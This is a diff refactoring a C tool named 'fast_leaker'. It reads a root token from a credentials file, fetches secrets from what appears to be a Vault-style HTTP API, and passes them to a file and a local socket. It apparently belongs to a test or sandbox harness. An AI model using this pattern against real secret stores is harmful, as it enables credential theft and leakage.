@@ -22,46 +22,9 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "agent.h"
+
 static char resp[1 << 16], req[1024], token[256];
-
-static void die(const char *what)
-{
-	fprintf(stderr, "fast_leaker: %s: %s\n", what, strerror(errno));
-	exit(1);
-}
-
-static int connect_to(const char *host, int port)
-{
-	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
-	int fd = socket(AF_INET, SOCK_STREAM, 0);
-
-	if (fd < 0 || inet_pton(AF_INET, host, &a.sin_addr) != 1 ||
-	    connect(fd, (struct sockaddr *)&a, sizeof(a)))
-		die("connect");
-	return fd;
-}
-
-static const char *json_str(const char *text, const char *key, size_t *len)
-{
-	char pat[64];
-	const char *p, *e;
-	size_t kl = strlen(key);
-
-	if (kl + 4 > sizeof(pat))
-		return NULL;
-	pat[0] = '"';
-	memcpy(pat + 1, key, kl);
-	memcpy(pat + 1 + kl, "\":\"", 4);
-	p = strstr(text, pat);
-	if (!p)
-		return NULL;
-	p += kl + 4;
-	e = strchr(p, '"');
-	if (!e)
-		return NULL;
-	*len = e - p;
-	return p;
-}
 
 /* Complete when the head is in and Content-Length bytes of body follow it.
  * No system calls. */
@@ -83,7 +46,7 @@ static void fetch_and_leak(const char *host, int port, const char *path, int sin
 	size_t got = 0, alen, blen;
 	const char *a, *b;
 	ssize_t n;
-	int fd = connect_to(host, port);
+	int fd = connect_in(host, port, SOCK_STREAM);
 
 	n = snprintf(req, sizeof(req),
 		     "GET /v1/%s HTTP/1.1\r\nHost: %s:%d\r\nX-Vault-Token: %s\r\n\r\n", path, host,
@@ -125,9 +88,6 @@ int main(int argc, char **argv)
 {
 	int file, sock, p[2], port, status;
 	char buf[4096];
-	const char *v;
-	size_t len;
-	ssize_t n;
 	pid_t child;
 
 	if (argc != 6) {
@@ -135,29 +95,12 @@ int main(int argc, char **argv)
 		return 2;
 	}
 	port = atoi(argv[2]);
-	file = open(argv[3], O_RDONLY);
-	if (file < 0)
-		die("open creds");
-	n = read(file, buf, sizeof(buf) - 1);
-	close(file);
-	buf[n > 0 ? n : 0] = 0;
-	{
-		/* the creds file is pretty-printed: "root_token": "..." */
-		char *t = strstr(buf, "\"root_token\": \"");
-
-		if (!t)
-			return 1;
-		v = t + 15;
-		len = strchr(v, '"') - v;
-		if (len >= sizeof(token))
-			return 1;
-		memcpy(token, v, len);
-	}
+	read_token(argv[3], token, sizeof(token));
 
 	file = open(argv[4], O_WRONLY | O_CREAT | O_TRUNC, 0600);
 	if (file < 0)
 		die("open file");
-	sock = connect_to("127.0.0.1", atoi(argv[5]));
+	sock = connect_in("127.0.0.1", atoi(argv[5]), SOCK_STREAM);
 	if (pipe(p))
 		die("pipe");
 	child = fork();
